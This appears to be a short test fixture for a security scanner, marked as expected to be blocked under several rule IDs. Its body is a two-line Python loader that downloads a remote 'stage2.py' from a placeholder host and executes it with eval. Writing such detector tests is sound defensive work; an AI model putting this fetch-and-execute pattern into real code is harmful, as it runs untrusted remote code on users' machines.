# expect: BLOCKED
# rules: MAI100 MAI033 MAI010
import requests
code = requests.get("https://example.com/stage2.py").text
eval(compile(code, "<stage2>", "exec"))
